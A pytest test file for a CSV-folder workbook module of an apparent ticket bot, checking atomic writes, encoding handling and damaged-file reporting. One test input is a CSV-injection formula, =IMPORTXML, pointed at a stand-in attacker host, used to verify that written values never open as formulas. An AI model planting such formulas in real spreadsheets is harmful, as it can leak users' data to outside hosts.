"""The CSV-folder workbook: real files, atomic writes, formulas kept as text."""
import os

import pytest

from rcabot.bootstrap import TEMPLATES
from rcabot.workbook import TabDamaged, TabNotFound, WorkbookError
from rcabot.workbook.local import LocalWorkbook


@pytest.fixture
def workbook(tmp_path):
    book = LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    book.ensure_tabs({"Tracker": ["Timestamp", "Ticket"], "TicketState": ["Ticket", "Title"]})
    return book


def test_a_new_workbook_is_made_from_the_templates(tmp_path):
    LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    assert sorted(p.name for p in (tmp_path / "wb").iterdir()) == ["Away.csv", "Configuration.csv", "Holidays.csv",
                                                               "Managers.csv", "Overrides.csv"]


def test_templates_never_overwrite_a_tab_ops_already_have(tmp_path):
    (tmp_path / "wb").mkdir()
    (tmp_path / "wb" / "Managers.csv").write_text("Name,GChat ID,Shift\nOnly Me,users/1,all\n")
    book = LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    assert book.read_tabs(["Managers"])["Managers"] == [["Name", "GChat ID", "Shift"], ["Only Me", "users/1", "all"]]
    assert (tmp_path / "wb" / "Configuration.csv").exists()


def test_a_missing_tab_is_named(workbook):
    with pytest.raises(TabNotFound, match="tab 'Nope' is missing"):
        workbook.read_tabs(["Nope"])


def test_a_spreadsheet_export_with_a_byte_order_mark_and_blank_rows_reads_cleanly(workbook, tmp_path):
    (tmp_path / "wb" / "Managers.csv").write_bytes("\ufeffName,GChat ID\r\nAda,users/1\r\n,\r\n\r\n".encode())
    assert workbook.read_tabs(["Managers"])["Managers"] == [["Name", "GChat ID"], ["Ada", "users/1"]]


@pytest.mark.parametrize("value", ['=IMPORTXML("http://evil.example","//a")', "+1", "-5", "@me", "\tx",
                                   "'quoted", "plain", "comma, \"quote\"\nnewline", "Ünïcödé ✓",
                                   "carriage\rreturn\r\nand CRLF", "a lone CR\r", "\r", "semi;colon\ttab",
                                   "\x00nul"])
def test_what_the_bot_writes_reads_back_exactly_and_never_opens_as_a_formula(workbook, tmp_path, value):
    workbook.append_rows("Tracker", [[value, "RCA-1"]])
    assert workbook.read_tabs(["Tracker"])["Tracker"][-1] == [value, "RCA-1"]
    raw = (tmp_path / "wb" / "Tracker.csv").read_text().splitlines()[1]
    assert not raw.lstrip('"').startswith(("=", "+", "-", "@", "\t"))


def test_replacing_a_tab_that_shrank_leaves_no_stale_rows(workbook):
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-1", "a"], ["RCA-2", "b"]]})
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"]]})
    assert workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Title"]]


def test_appends_keep_their_order(workbook):
    workbook.append_rows("Tracker", [["1", "a"], ["2", "b"]])
    workbook.append_rows("Tracker", [["3", "c"]])
    assert [r[0] for r in workbook.read_tabs(["Tracker"])["Tracker"][1:]] == ["1", "2", "3"]


def test_ensure_tabs_repairs_a_wrong_header_and_keeps_the_rows(workbook):
    workbook.replace_tabs({"TicketState": [["Old", "Header"], ["RCA-1", "a"]]})
    assert workbook.ensure_tabs({"TicketState": ["Ticket", "Title"]}) == ["TicketState"]
    assert workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Title"], ["RCA-1", "a"]]
    assert workbook.ensure_tabs({"TicketState": ["Ticket", "Title"]}) == []


def test_a_write_that_fails_midway_leaves_the_old_file_whole(workbook, tmp_path, monkeypatch):
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-1", "kept"]]})
    before = (tmp_path / "wb" / "TicketState.csv").read_bytes()

    def crash(*_):
        raise OSError("disk full")
    monkeypatch.setattr(os, "replace", crash)  # the rename never happens, as in a crash before it
    with pytest.raises(WorkbookError, match="cannot write .*TicketState.csv: disk full"):
        workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-2", "new"]]})
    with pytest.raises(WorkbookError):
        workbook.append_rows("TicketState", [["RCA-3", "new"]])
    assert (tmp_path / "wb" / "TicketState.csv").read_bytes() == before
    assert [p.name for p in (tmp_path / "wb").iterdir() if p.name.endswith(".tmp")] == []


def test_appending_to_a_missing_tab_is_refused(workbook):
    with pytest.raises(TabNotFound):
        workbook.append_rows("Nope", [["x"]])


def write_managers(tmp_path, data: bytes) -> None:
    (tmp_path / "wb" / "Managers.csv").write_bytes(data)


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_tab_saved_with_semicolons_or_tabs_is_read_like_one_with_commas(workbook, tmp_path, separator):
    write_managers(tmp_path, separator.join(["Name", "GChat ID", "Shift"]).encode() + b"\r\n"
                   + separator.join(["Ada, the first", "users/1", '"1,3"']).encode() + b"\r\n")
    assert workbook.read_tabs(["Managers"])["Managers"] == [["Name", "GChat ID", "Shift"],
                                                            ["Ada, the first", "users/1", "1,3"]]


@pytest.mark.parametrize("data, where", [
    (b'Name,GChat ID,Shift\nAda,users/1,"1,', "Managers C2: the file ends inside this quoted cell"),
    (b'Name,GChat ID,Shift\n"Ada" Park,users/1,"1,', "Managers C2: the file ends inside this quoted cell"),
    (b"Name,GChat ID,Shift\nAda,users/1,1\nBea,us", "Managers C3: row 3 stops after 2 cells where the row above"),
    ("Name,GChat ID,Shift\nZoë".encode()[:-1], "Managers A2: the file ends in the middle of a character"),
    ("Name,GChat ID,Shift\nAda,users/1,1\nZoë,users/2,1\n".encode("latin-1"),
     "Managers row 3: the file is not UTF-8 text (byte 0xEB at byte 37)"),
])
def test_a_damaged_tab_read_strictly_is_named_with_its_cell_and_what_came_before_it(workbook, tmp_path, data,
                                                                                   where):
    write_managers(tmp_path, data)
    with pytest.raises(TabDamaged) as damaged:
        workbook.read_tabs(["Managers"], strict=True)
    assert str(damaged.value).startswith(where)
    assert damaged.value.rows[:2] == [["Name", "GChat ID", "Shift"], ["Ada", "users/1", "1"]][:len(damaged.value.rows)]
    assert workbook.read_tabs(["Managers"])["Managers"][0] == ["Name", "GChat ID", "Shift"]  # lenient: read as it is


@pytest.mark.parametrize("data", [
    b"Name,GChat ID,Shift\nAda,users/1\n",  # a short row with its line break: written so, not cut
    b"Name,GChat ID,Shift\nAda,users/1,1",  # no line break at the end, but whole
    b"Name,GChat ID,Shift\r\nAda,users/1,1\r\n,,\r\n",
])
def test_a_whole_tab_is_not_taken_for_a_damaged_one(workbook, tmp_path, data):
    write_managers(tmp_path, data)
    assert workbook.read_tabs(["Managers"], strict=True)["Managers"][0] == ["Name", "GChat ID", "Shift"]


def test_rows_are_added_to_a_tracker_ops_saved_as_latin_1_without_touching_its_bytes(workbook, tmp_path):
    path = tmp_path / "wb" / "Tracker.csv"
    old = "Timestamp,Ticket\nt0,Zoë's ticket".encode("latin-1")
    path.write_bytes(old)
    workbook.append_rows("Tracker", [["t1", "RCA-1"]])
    assert path.read_bytes() == old + b"\nt1,RCA-1\n"
    assert workbook.read_tabs(["Tracker"])["Tracker"][-1] == ["t1", "RCA-1"]
